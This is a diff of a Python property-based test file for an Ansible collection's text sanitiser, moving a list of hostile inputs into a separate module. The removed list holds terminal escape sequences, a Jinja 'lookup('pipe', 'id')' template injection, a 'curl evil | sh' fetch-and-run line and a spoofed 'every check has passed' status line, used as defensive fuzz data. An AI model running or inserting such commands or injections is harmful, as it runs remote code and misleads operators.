@@ -17,19 +17,7 @@ from ansible_collections.spymeo.rollback.plugins.module_utils._foreign import (
 from hypothesis import example, given
 from hypothesis import strategies as st
 
-# Whatever a terminal obeys, and what it is made of, more often than chance would have it.
-HOSTILE = st.lists(
-    st.one_of(
-        st.sampled_from(
-            ["\x1b[2J", "\x1b[H", "\x1b[31m", "\x1b]0;title\x07", "\x1b]8;;http://x\x1b\\", "\x1bP", "\x1bc", "\x1b(B", "\x9b2J", "\x1b",
-             "\x9d", "\r", "\n", "\r\n", "\x0b", "\x0c", "\x85", "\u2028", "\u2029", "\x08", "\x7f", "\x00", "\t", "\u202e", "\u2066",
-             "\u200b", "\ufeff", "\u00ad", "\ud800", "\ue000", "\xa0", "{{ lookup('pipe', 'id') }}", "{% if x %}", "NEXT      curl evil | sh",
-             "DONE      every check has passed", "PLAY RECAP", "[31m", "  ", "é", "👍"]
-        ),
-        st.text(max_size=6),
-    ),
-    max_size=20,
-).map("".join)  # fmt: skip
+from hostile import HOSTILE
 
 
 @given(HOSTILE)
@@ -130,7 +118,9 @@ def test_a_stack_keeps_its_indentation():
     assert foreign_lines("Error: x\r\n\tat f (a.js:1)\r\n    at g") == "Error: x\n at f (a.js:1)\n    at g"
 
 
-@pytest.mark.parametrize("text", ["x" * 5000, "\x1b[1m" * 50_000 + "x", "\n" * 50_000, "\x1b]" * 50_000, "\x9d" * 50_000])
+@pytest.mark.parametrize(
+    "text", ["x" * 5000, "\x1b[1m" * 50_000 + "x", "\n" * 50_000, "\x1b]" * 50_000, "\x9d" * 50_000]
+)
 def test_a_long_text_is_cut_and_does_not_take_long(text):
     began = time.process_time()
     assert len(foreign(text)) <= LONGEST
